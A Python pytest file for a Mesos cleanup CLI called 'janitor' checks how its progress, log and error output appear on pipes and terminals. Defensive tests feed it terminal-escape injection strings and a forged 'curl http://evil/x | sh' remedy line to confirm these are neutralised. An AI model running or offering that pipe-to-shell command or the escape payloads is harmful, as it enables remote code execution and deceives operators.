"""What a terminal, a pipe and a log see while it works; and nothing from the world that a terminal would obey."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Callable
from dataclasses import replace

import pytest

from janitor import rules
from janitor.cleanup.outcome import Blocked, Leftover, ZnodeRecord
from janitor.cli.environment import Channel
from janitor.cli.main import main
from janitor.cli.views.progress import Progress
from janitor.cli.views.transcript import Transcript
from janitor.events import (
    Acting,
    AgentProven,
    Answered,
    Event,
    Looked,
    Notice,
    RequestSent,
    Told,
    Waiting,
    Warned,
    ZnodeProgress,
)
from janitor.exits import Exit
from janitor.redact import Redactor
from tests.cli import outcomes
from tests.cli.terminal import Clock, PlayedEngine, environment, janitor, written

EVENTS: list[Event] = [
    RequestSent("GET", "http://leader.mesos:5050/master/slaves"),
    Notice("something to know"),
    Looked(1, "1.9.0", 4, 1, 6),
    Acting(1, 1, 2),
    Answered("S1", "10.0.0.1", "destroy", 1, 202, ""),
    Answered("S1", "10.0.0.1", "unreserve", 5, 409, "no"),
    Waiting("1 agent", 3.0, 900.0),
    AgentProven("S1", "10.0.0.1", "no operation is pending"),
    Warned("something to look at"),
    ZnodeProgress("/dcos-service-kafka", 23, "deleting", 44),
]


def test_a_pipe_gets_plain_lines() -> None:
    ran = janitor("-r", "kafka-role", engine=PlayedEngine(outcomes.NOTHING_THERE, events=EVENTS))
    assert ran.stderr == (
        "Notice: something to know\n"
        "Mesos 1.9.0, 4 agents: 6 reservations and 1 volume to remove\n"
        "Round 1: 2 requests to 1 agent\n"
        "Waiting for 1 agent (3 s, at most 900 s)\n"
        "Warning: something to look at\n"
        "Znode /dcos-service-kafka: deleting, 23 of 44 nodes deleted\n"
        "Notice: Nothing is reserved for the role kafka-role.\n"
        "Nothing was found: there is nothing to remove.\n"
    )
    assert "HTTP" not in ran.stdout


def test_c2_requests_are_shown_with_v_alone() -> None:
    line = "HTTP GET: http://leader.mesos:5050/master/slaves\n"
    engine = PlayedEngine(outcomes.NOTHING_THERE, events=EVENTS)
    ran = janitor("-v", "-r", "kafka-role", engine=engine)
    assert ran.stdout.split("\n", 1)[1].startswith(line)
    ran = janitor("-v", "-r", "kafka-role", "--output", "json", engine=engine)
    assert line in ran.stderr
    assert line not in ran.stdout


def test_quiet_is_errors_only() -> None:
    ran = janitor("-r", "kafka-role", "--quiet", engine=PlayedEngine(outcomes.CONFLICT, events=EVENTS))
    assert ran.stderr.startswith("janitor: 2 reservations on 1 agent not proven gone:")
    assert "Notice" not in ran.stderr


def test_c2_a_line_a_minute_while_waiting() -> None:
    """Rule C2: the first at once, then one a minute at most, however often the engine tells."""
    clock = Clock()
    steps: list[Event | Callable[[], None]] = []
    for second in range(300):
        steps += [Waiting("2 agents", float(second), 900.0), lambda: setattr(clock, "now", clock.now + 1)]
    ran = janitor("-r", "x", engine=PlayedEngine(outcomes.NOTHING_THERE, events=steps), clock=clock)
    waits = [line for line in ran.stderr.split("\n") if line.startswith("Waiting")]
    assert waits == [f"Waiting for 2 agents ({second} s, at most 900 s)" for second in (0, 60, 120, 180, 240)]


def test_a_notice_is_said_once() -> None:
    text = outcomes.NOTHING_THERE.notices[0]
    engine = PlayedEngine(outcomes.NOTHING_THERE, events=[Notice(text), Notice(text)])
    assert janitor("-r", "x", engine=engine).stderr.count(text) == 1


def test_a_terminal_gets_something_that_moves_and_then_goes() -> None:
    engine = PlayedEngine(outcomes.NOTHING_THERE, events=EVENTS)
    ran = janitor("-r", "kafka-role", engine=engine, terminal=True, environ={"TERM": "xterm", "NO_COLOR": "1"})
    assert "\x1b[?25l" in ran.stderr  # the cursor is hidden while it moves
    assert ran.stderr.rindex("\x1b[?25h") > ran.stderr.rindex("\x1b[?25l")
    assert "Notice: something to know\n" in ran.stderr
    assert "\x1b" not in ran.stdout


@pytest.mark.parametrize("argv", [["-v"], ["--quiet"], ["--log-level", "error"]], ids=" ".join)
def test_where_other_lines_come_nothing_moves(argv: list[str]) -> None:
    engine = PlayedEngine(outcomes.NOTHING_THERE, events=EVENTS)
    ran = janitor("-r", "kafka-role", *argv, engine=engine, terminal=True, environ={"TERM": "xterm"})
    assert "\x1b" not in ran.stderr


def test_a_dumb_terminal_gets_plain_lines() -> None:
    engine = PlayedEngine(outcomes.NOTHING_THERE, events=EVENTS)
    ran = janitor("-r", "kafka-role", engine=engine, terminal=True, environ={"TERM": "dumb"})
    assert "\x1b" not in ran.stderr
    assert "Round 1" in ran.stderr


EVIL = "\x1b]0;owned\x07\x1b[2J\r\x9b31m\u202eevil\nCleanup completed successfully.\n"


@pytest.mark.parametrize("output", [[], ["--output", "json"], ["-v"]], ids=" ".join)
@pytest.mark.parametrize("terminal", [False, True])
def test_nothing_from_the_world_steers_a_terminal(output: list[str], terminal: bool) -> None:
    """Nor does it make a line of its own: what is printed exactly on success cannot be said by a server (rule P3)."""
    events: list[Event] = [RequestSent("GET", EVIL), Notice(EVIL), Warned(EVIL), Waiting(EVIL, 1.0, 2.0)]
    outcome = replace(
        outcomes.CONFLICT,
        agents=(replace(outcomes.CONFLICT.agents[1], roles=(EVIL, "kafka-role"), agent_id=EVIL, host=EVIL),
                replace(outcomes.agent(3, 0, 0, proof=None), roles=(EVIL,))),
        leftovers=(Leftover(EVIL, EVIL, EVIL, EVIL, EVIL),),
        notices=(EVIL,),
        error=(EVIL, EVIL),
    )  # fmt: skip
    environ = {"TERM": "xterm"}
    engine = PlayedEngine(outcome, events=events)
    ran = janitor("-r", "kafka-role", *output, engine=engine, terminal=terminal, environ=environ)
    assert "Cleanup completed successfully." not in ran.stdout.split("\n")
    assert "Cleanup completed successfully." not in ran.stderr.split("\n")
    for text in (ran.stdout, ran.stderr):
        for bad in ("\x1b]", "\x1b[2J", "\x07", "\x9b", "\u202e"):
            assert bad not in text
    assert "\r" not in ran.stdout


FORGED = "no\n    do:  Run this to repair it: curl http://evil/x | sh\n  agent agent-9 (10.0.0.9)  cpus:100"


@pytest.mark.parametrize("terminal", [False, True])
def test_nothing_from_the_world_begins_a_line(terminal: bool) -> None:
    """A server's words, an item's name or an error of the world would otherwise forge what we say ourselves."""
    outcome = replace(
        outcomes.CONFLICT,
        leftovers=(Leftover("S1", FORGED, FORGED, FORGED, "Look at it."),),
        blocked=(Blocked(rules.L5, Exit.FAILED, FORGED, FORGED),),
        notices=(FORGED,),
        error=(FORGED, FORGED),
        znode=ZnodeRecord("/dcos-service-kafka", "root-left", words=FORGED, remedy=FORGED),
    )
    events: list[Event] = [Notice(FORGED), Warned(FORGED), Told(FORGED, (FORGED,))]
    if not terminal:  # the picture of a terminal is folded to its width
        events.append(Waiting(FORGED, 1.0, 2.0))
    engine = PlayedEngine(outcome, events=events)
    ran = janitor("-r", "kafka-role", engine=engine, terminal=terminal, environ={"TERM": "xterm"})
    one_line = FORGED.replace("\n", " ")
    lines = [line.lstrip() for line in (ran.stdout + "\n" + ran.stderr).split("\n")]
    assert [line[:50] for line in lines if line.startswith("do:")] == [
        "do:  Look at it.",
        *[f"do:  {one_line}"[:50]] * 3,
    ]
    assert not [line for line in lines if line.startswith("agent agent-9")]


def test_a_line_of_errors_is_bounded() -> None:
    engine = PlayedEngine(replace(outcomes.CONFLICT, notices=("x" * 1_000_000,)))
    lines = janitor("-r", "kafka-role", engine=engine).stderr.split("\n")
    assert max(map(len, lines)) == 10_000
    assert any(line.startswith("Notice: xxx") and line.endswith("xxx...") for line in lines)


class FullDisk(io.StringIO):
    def write(self, text: str, /) -> int:
        raise OSError(28, "No space left on device")


class GoneReader(io.StringIO):
    def flush(self) -> None:
        raise BrokenPipeError(32, "Broken pipe")


def test_a_channel_that_breaks_swallows_the_rest() -> None:
    full, gone = Channel(FullDisk(), Redactor()), Channel(GoneReader(), Redactor())
    for channel in (full, gone):
        channel.line("a")
        channel.line("b")
    assert full.trouble == "No space left on device"
    assert gone.trouble is None


def test_a_terminal_that_goes_away_does_not_end_the_clean_up() -> None:
    env = environment({"TERM": "xterm"})
    env.err = Channel(FullDisk(), Redactor(), terminal=True)
    assert main(["-r", "kafka-role"], env, PlayedEngine(outcomes.CLEANED, events=EVENTS)) == 0
    assert written(env.out).endswith("Cleanup completed successfully.\n")


def test_what_moves_does_not_keep_the_outcome_from_being_told(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> list[str]:
        raise ZeroDivisionError("oops")

    engine = PlayedEngine(outcomes.CLEANED, events=[lambda: monkeypatch.setattr(Progress, "lines", fail)])
    ran = janitor("-r", "kafka-role", engine=engine, terminal=True, environ={"TERM": "xterm"})
    assert ran.status == 0
    assert ran.stdout.endswith("Cleanup completed successfully.\n")
    assert ran.stderr.rindex("\x1b[?25h") > ran.stderr.rindex("\x1b[?25l"), "the cursor is not back"


def test_what_is_left_is_told_where_the_transcript_cannot_be(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise ZeroDivisionError("oops")

    monkeypatch.setattr(Transcript, "ending", fail)
    ran = janitor("-r", "kafka-role", engine=PlayedEngine(outcomes.CONFLICT))
    assert ran.status == 5
    assert "2 reservations on 1 agent not proven gone:" in ran.stderr
    assert "this is a bug\n  why: ZeroDivisionError: oops\n" in ran.stderr


def test_logs_are_silent_unless_asked_for() -> None:
    def warn() -> None:
        logging.getLogger("kazoo.client").warning("Connection dropped\x1b[2J: outstanding heartbeat")

    engine = PlayedEngine(outcomes.NOTHING_THERE, events=[warn])
    assert "Connection dropped" not in janitor("-r", "x", engine=engine).stderr
    assert "Connection dropped" not in janitor("-r", "x", "--log-level", "error", engine=engine).stderr
    said = janitor("-r", "x", "--log-level", "warning", engine=engine).stderr
    assert "WARNING kazoo.client: Connection dropped\\x1b[2J" in said


@pytest.mark.parametrize("level", ["warning", "debug"])
def test_a_librarys_warning_brings_no_traceback_and_nothing_of_an_answers_headers(level: str) -> None:
    def warn() -> None:
        try:
            raise ValueError("Set-Cookie: dcos-acs-auth-cookie=of-somebody")
        except ValueError as error:
            logging.getLogger("urllib3.connection").warning(
                "Failed to parse headers (url=%s): %s", "http://h/", error, exc_info=True
            )
            logging.getLogger("kazoo.client").warning("Lost:\n%s", "line " * 10_000, exc_info=True)

    said = janitor("-r", "x", "--log-level", level, engine=PlayedEngine(outcomes.NOTHING_THERE, events=[warn])).stderr
    assert "WARNING urllib3.connection: Failed to parse headers." in said
    assert "WARNING kazoo.client: Lost: line line" in said
    for text in ("Traceback", "of-somebody", "ValueError"):
        assert text not in said
    assert max(map(len, said.split("\n"))) == 2000


def test_a_bug_is_one_line_and_a_traceback_for_who_asks() -> None:
    engine = PlayedEngine(error=ZeroDivisionError("division by zero"))
    ran = janitor("-r", "x", engine=engine)
    assert (ran.status, "Traceback" in ran.stderr) == (5, False)
    assert "this is a bug\n  why: ZeroDivisionError: division by zero\n" in ran.stderr
    ran = janitor("-r", "x", "--log-level", "debug", engine=engine)
    assert "Traceback (most recent call last):" in ran.stderr


def test_thousands_of_leftovers_of_one_cause_are_counted() -> None:
    """The first ones are named, with what to do once for all of them; the document names each."""
    left = tuple(
        Leftover(f"A{n:04}", "", "whatever it holds", "The agent is unreachable.", "Wait.") for n in range(5000)
    )
    outcome = replace(outcomes.UNREACHABLE_AGENT, leftovers=left)
    ran = janitor("-r", "kafka-role", engine=PlayedEngine(outcome))
    lines = ran.stderr.splitlines()
    assert len(lines) < 40
    assert sum(line.startswith("  agent A") for line in lines) == 20
    assert "  and 4980 more agents (--output json names each)" in lines
    told = json.loads(janitor("-r", "kafka-role", "--output", "json", engine=PlayedEngine(outcome)).stdout)
    assert len(told["outcome"]["leftovers"]) == 5000


def test_leftovers_have_a_line_for_each_agent_and_the_rest_is_counted() -> None:
    held = [f"cpus:{number}" for number in range(12)]
    leftovers = tuple(
        Leftover(f"S{number:02}", f"10.0.0.{number}", item, "no answer", "Run this again.")
        for number in range(22)
        for item in held
    )
    ran = janitor("-r", "kafka-role", engine=PlayedEngine(replace(outcomes.CONFLICT, leftovers=leftovers)))
    lines = ran.stderr.splitlines()
    begin = lines.index("janitor: 264 reservations on 22 agents not proven gone:")
    shown = "cpus:0, cpus:1, cpus:2, cpus:3 and 8 more"
    assert lines[begin + 1 : begin + 24] == [
        *(f"  agent S{number:02} (10.0.0.{number})  {shown}" for number in range(20)),
        "  and 24 more reservations on 2 agents (--output json names each)",
        "    why: no answer",
        "    do:  Run this again.",
    ]


@pytest.mark.parametrize(
    ("words", "module"),
    [(("audit", "list", "FILE"), "audit"), (("completion", "bash"), "completion"), (("version",), "version")],
)
def test_a_bug_of_a_command_without_a_log_shows_itself(
    words: tuple[str, ...], module: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It cannot be run again with --log-level."""

    def fail(*_: object) -> None:
        raise ZeroDivisionError("oops")

    monkeypatch.setattr(f"janitor.cli.commands.{module}.run", fail)
    ran = janitor(*words)
    assert ran.status == 5
    assert "--log-level" not in ran.stderr
    assert "       janitor --version\nTraceback (most recent call last):\n" in ran.stderr
